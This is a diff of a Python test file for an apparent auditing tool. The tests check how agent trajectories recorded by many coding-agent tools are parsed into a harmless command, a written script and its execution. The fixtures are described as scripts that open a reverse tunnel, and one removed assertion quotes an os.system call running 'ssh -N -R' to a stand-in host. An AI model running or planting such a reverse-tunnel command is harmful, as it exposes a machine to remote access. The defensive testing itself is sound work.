@@ -1,61 +1,143 @@
-"""Files that the tools themselves wrote, run against models that answer from a list.
+"""Files that the tools themselves wrote: calls, steps, times and code come out of each (fixtures/README.md says how).
 
-`inspect-0.3.285.eval`: inspect_ai's `eval` with `mockllm`; its zip members are compressed with
-Zstandard, and a long argument is an attachment. `mini-swe-agent-2.4.6.traj.json`: its default agent
-with its deterministic model, in its local environment; folders were renamed.
-`claude-code-2.1.330.jsonl`: the command line of claude-agent-sdk 0.2.187 against a server of ours; lines
-that hold its prompts (attachments, requests) were left out.
+Every session is the same: a harmless command, a script that opens a reverse tunnel is written, and it is run.
 """
 
 from __future__ import annotations
 
+from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
 
 from auditor.intake.datasets.input import Input
 from auditor.intake.datasets.sources import Sources
+from auditor.model.unit import Language
+from tests.intake.recording.turns import CONTENT, HARMLESS, JOB, RUN, WORK, WRITE
 
 FIXTURES = Path(__file__).parent / "fixtures"
+START = 1_772_359_200_000  # 2026-03-01T10:00:00Z, in milliseconds
+FIRST, SECOND = (f"00000000-0000-4000-8000-{number:012}" for number in (1, 2))
+
+
+@dataclass(frozen=True)
+class Expected:
+    """What a file gives. `writes` is the tool that writes; without one, a command writes the script."""
+
+    file: str
+    trajectory: str
+    runs: str
+    writes: str = ""
+    steps: tuple[int, ...] = (1, 2, 3)
+    calls: tuple[str, ...] = ("call_1", "call_2", "call_3")
+    milliseconds: tuple[int, ...] = ()
+    """Since START; empty where the format keeps no time."""
+    is_zone_assumed: bool = False
+    directory: str = ""
+
+
+EVERY = (
+    Expected("claude-code-2.1.330.jsonl", FIRST, "Bash", "Write", milliseconds=(358, 548, 654), directory=WORK),
+    Expected(
+        "codex-0.169.0.jsonl", FIRST, "exec_command", "exec_command", milliseconds=(649, 744, 762), directory=WORK
+    ),
+    Expected(
+        "gemini-cli-0.61.0.jsonl", FIRST, "run_shell_command", "write_file", milliseconds=(991, 1210, 1738),
+        calls=(
+            "run_shell_command__run_shell_command_1772359200424_0", "write_file__write_file_1772359201043_0",
+            "run_shell_command__run_shell_command_1772359201283_0",
+        ),
+    ),
+    Expected(
+        "qwen-code-0.15.10.jsonl", SECOND, "run_shell_command", "write_file", milliseconds=(450, 12645, 13329),
+        directory=WORK,
+    ),
+    Expected("copilot-cli-1.0.102.jsonl", FIRST, "bash", "create", milliseconds=(694, 975, 1036), directory=WORK),
+    Expected(
+        "openhands-sdk-1.58.0", "openhands-sdk-1.58.0", "terminal", "file_editor", (3, 5, 7),
+        milliseconds=(746, 1624, 1680), is_zone_assumed=True,
+    ),
+    Expected("swe-agent-0.0.1.traj", "swe-agent-0.0.1.traj", "bash", calls=("1", "2", "3")),
+    Expected(
+        "mini-swe-agent-2.4.6.traj.json", "mini-swe-agent-2.4.6.traj.json", "bash", steps=(3, 5, 7),
+        milliseconds=(134, 134, 134),
+    ),
+    Expected(
+        "harbor-0.24.0-atif.json", FIRST, "bash_command", steps=(2, 3, 4), calls=("call_0_1", "call_1_1", "call_2_1"),
+        milliseconds=(1858, 2922, 3941),
+    ),
+    Expected(
+        "inspect-0.3.285.eval", "YfkyQmik6m49oQzNvBarJ7/s-1/1", "bash", "write_file",
+        calls=(
+            "for_tool_call_6d6b8fda-a9db-4fcd-931a-c14f001c9c0a", "for_tool_call_4447546c-40af-4af8-8233-4772604f8e46",
+            "for_tool_call_86d4f68b-5a86-4445-ae68-5f035ae577c3",
+        ),
+        milliseconds=(23_109_317_297, 23_109_317_371, 23_109_317_384),
+    ),
+    Expected("openai-2.54.0.jsonl", "row-1", "bash", "write_file", (2, 4, 6)),
+    Expected("openai-2.54.0.parquet", "row-1", "bash", "write_file", (2, 4, 6)),
+)  # fmt: skip
 
 
 def inputs_of(name: str) -> list[Input]:
-    return [each for each in Sources([str(FIXTURES / name)]).inputs() if isinstance(each, Input)]
+    """Take everything of a fixture; nothing may be skipped, and no line of it may be a gap."""
+    if name.endswith((".eval", ".parquet")):
+        pytest.importorskip("pyarrow", reason="the corpus extra is not installed")
+    found = list(Sources([str(FIXTURES / name)]).inputs())
+    inputs = [each for each in found if isinstance(each, Input)]
+    assert len(inputs) == len(found)
+    assert not any(each.gaps for each in inputs)
+    return inputs
 
 
-def test_inspect() -> None:
-    """The attachment is put in its place, and the file that it writes surrounds the command that runs it."""
-    pytest.importorskip("pyarrow", reason="the corpus extra is not installed")
-    wrote, ran = inputs_of("inspect-0.3.285.eval")
-    assert (wrote.path, ran.data) == ("/work/job.py", b"python /work/job.py")
-    assert b"os.system('ssh -N -R 2222:localhost:22 ops@203.0.113.5')" in wrote.data
-    assert ("/work/job.py", wrote.data.decode()) in ran.surroundings.files
-    assert wrote.moment is not None
-    assert ran.moment is not None
-    assert (wrote.moment.step, ran.moment.step, ran.moment.tool) == (1, 2, "bash")
-    assert wrote.moment.trajectory.endswith("/1/1")
-    assert ran.moment.time_ns is not None
-    assert 0 < ran.moment.time_ns - (wrote.moment.time_ns or 0) < 10**9
-    assert ran.moment.call.startswith("for_tool_call_")
+@pytest.mark.parametrize("expected", EVERY, ids=lambda each: each.file)
+def test_every_tool(expected: Expected) -> None:
+    """Three inputs in order; the last is surrounded by what the one before wrote."""
+    found = inputs_of(expected.file)[:3]
+    harmless, wrote, ran = found
+    assert harmless.data.decode().strip() == HARMLESS
+    assert ran.data.decode().strip() == RUN
+    assert (harmless.language, ran.language) == (Language.BASH, Language.BASH)
+    if expected.writes:
+        assert wrote.path in (JOB, "job.py")
+        assert wrote.data.decode().startswith(CONTENT)
+    else:
+        assert wrote.data.decode().strip() == WRITE
+    files = dict(ran.surroundings.files)
+    assert files[JOB].startswith(CONTENT)
+    assert not harmless.surroundings.files
+    assert ran.surroundings.directory == expected.directory
+    moments = [each.moment for each in found if each.moment is not None]
+    assert [each.step for each in moments] == list(expected.steps)
+    assert [each.call for each in moments] == list(expected.calls)
+    assert [each.tool for each in moments] == [expected.runs, expected.writes or expected.runs, expected.runs]
+    assert {each.trajectory.removeprefix(f"{FIXTURES}/") for each in moments} == {expected.trajectory}
+    times = [each.time_ns // 1_000_000 - START for each in moments if each.time_ns is not None]
+    assert tuple(times) == expected.milliseconds
+    assert {each.is_zone_assumed for each in moments} == {expected.is_zone_assumed}
 
 
-def test_mini_swe_agent() -> None:
-    """Three commands; the second runs what the first wrote."""
-    wrote, ran, _ = inputs_of("mini-swe-agent-2.4.6.traj.json")
-    assert ran.data == b"python3 /tmp/w/job.py"
-    assert any("ssh -N -R" in content for _, content in ran.surroundings.files)
-    assert wrote.moment is not None
-    assert (wrote.moment.step, wrote.moment.call, wrote.moment.is_zone_assumed) == (3, "call_0", False)
-    assert wrote.moment.time_ns is not None
+def test_nothing_else_is_code() -> None:
+    """Prompts, results, diffs and duplicates of events in the same files give no input; mini-swe-agent hands in."""
+    for expected in EVERY:
+        more = [each.data for each in inputs_of(expected.file)[3:]]
+        is_mini = expected.file.startswith("mini-swe-agent")
+        assert more == ([b"echo COMPLETE_TASK_AND_SUBMIT_FINAL_OUTPUT"] if is_mini else []), expected.file
 
 
-def test_claude_code() -> None:
-    """Two calls; lines of other kinds are passed over."""
-    wrote, ran = inputs_of("claude-code-2.1.330.jsonl")
-    assert (wrote.path, ran.data) == ("/tmp/w/job.py", b"python3 /tmp/w/job.py")
-    assert ran.surroundings.files == (("/tmp/w/job.py", wrote.data.decode()),)
-    assert ran.surroundings.directory == "/tmp/w"
-    assert ran.moment is not None
-    assert (ran.moment.step, ran.moment.call, ran.moment.tool) == (2, "toolu_01", "Bash")
-    assert ran.moment.time_ns is not None
-    assert not ran.moment.is_zone_assumed
+def test_fschat() -> None:
+    """ShareGPT: an agent that acts by fences, in two conversations; the second runs what it wrote."""
+    harmless, wrote, ran = inputs_of("fschat-0.2.36.json")
+    assert [each.data.decode().strip() for each in (harmless, wrote, ran)] == [HARMLESS, WRITE, RUN]
+    assert [each.id for each in (harmless, wrote, ran)] == ["alpaca_0#2:2.0", "alpaca_1#2:2.0", "alpaca_1#2:2.1"]
+    assert JOB in dict(ran.surroundings.files)
+    assert not wrote.surroundings.files
+
+
+def test_the_fixtures_name_no_machine() -> None:
+    """Scrubbed: no home, no user, no day of recording, and no long text of the tools' own."""
+    for path in sorted(FIXTURES.rglob("*")):
+        if path.suffix in (".json", ".jsonl", ".traj"):
+            text = path.read_text(encoding="utf-8")
+            for word in ("/root", "root@", "/tmp/tmp", "2026-11", "site-packages", "You are"):
+                assert word not in text, (path.name, word)
